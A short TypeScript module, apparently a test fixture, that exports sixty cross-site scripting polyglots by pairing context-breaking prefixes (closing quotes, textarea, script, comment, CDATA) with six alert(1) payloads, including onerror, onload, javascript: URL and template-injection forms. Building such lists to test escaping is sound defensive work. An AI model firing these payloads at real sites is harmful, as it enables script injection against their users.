const ENDS = ['', '">', "'>", '</textarea>', '</title>', '</script>', '-->', '</style>', ']]>', '`'];
const CORES = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
];

/** Sixty texts, each of which would run a script in some page that does not escape text. */
export const POLYGLOTS: readonly string[] = ENDS.flatMap(end => CORES.map(core => `${end}${core}`));
